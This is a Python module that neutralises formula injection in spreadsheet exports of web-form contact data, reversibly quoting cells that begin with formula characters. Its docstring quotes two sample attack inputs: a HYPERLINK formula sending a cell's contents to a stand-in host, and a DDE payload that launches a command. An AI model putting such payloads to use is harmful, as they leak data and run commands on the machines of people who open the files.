"""Cells a person opens in a spreadsheet: formula-like text made inert on the way out, restored on the way in.

Contact fields come from untrusted web forms. A first name such as `=HYPERLINK("http://evil.example/?x="&B3)` or
`+cmd|' /C calc'!A0`, written as it is into `conflicts.csv` or a Prefect table artifact, runs as a formula when
the data team opens the file. `guard` prefixes a single quote to every text that begins with `=`, `+`, `-`, `@`,
a tab or a carriage return (OWASP's CSV injection advice), and to a text that begins with quotes followed by one
of those, so `unguard` can tell the two apart: `unguard(guard(x)) == x` for every text, and a guarded cell never
begins with a formula character. Pure: strings in, strings out.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_FORMULA = r"^'*[=+\-@\t\r]"  # `_needs_guard` as a regular expression


def _needs_guard(text: str) -> bool:
    """True for a text a spreadsheet would run (or one that only quotes stand between a formula and the start)."""
    rest = text.lstrip(QUOTE)
    return rest.startswith(FORMULA_START)


def guard(value: Any) -> Any:
    """`value` made inert for a spreadsheet; anything but a string is returned as it is."""
    if isinstance(value, str) and _needs_guard(value):
        return QUOTE + value
    return value


def unguard(value: Any) -> Any:
    """The text `guard` was given back from a cell it wrote (a cell it did not change is returned as it is)."""
    if isinstance(value, str) and value.startswith(QUOTE) and _needs_guard(value[1:]):
        return value[1:]
    return value


def unguard_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {name: unguard(value) for name, value in row.items()}


def guarded(frame: pl.DataFrame) -> pl.DataFrame:
    """`guard` on every text column of `frame`."""
    return frame.with_columns(_guard_expr(pl.col(name)).alias(name) for name in _texts(frame))


def unguarded(frame: pl.DataFrame) -> pl.DataFrame:
    """`unguard` on every text column of `frame`."""
    return frame.with_columns(_unguard_expr(pl.col(name)).alias(name) for name in _texts(frame))


def _texts(frame: pl.DataFrame) -> list[str]:
    return [name for name, dtype in frame.schema.items() if dtype == pl.String]


def _guard_expr(col: pl.Expr) -> pl.Expr:
    return pl.when(col.str.contains(_FORMULA)).then(pl.lit(QUOTE) + col).otherwise(col)


def _unguard_expr(col: pl.Expr) -> pl.Expr:
    rest = col.str.slice(1)
    return pl.when(col.str.starts_with(QUOTE) & rest.str.contains(_FORMULA)).then(rest).otherwise(col)
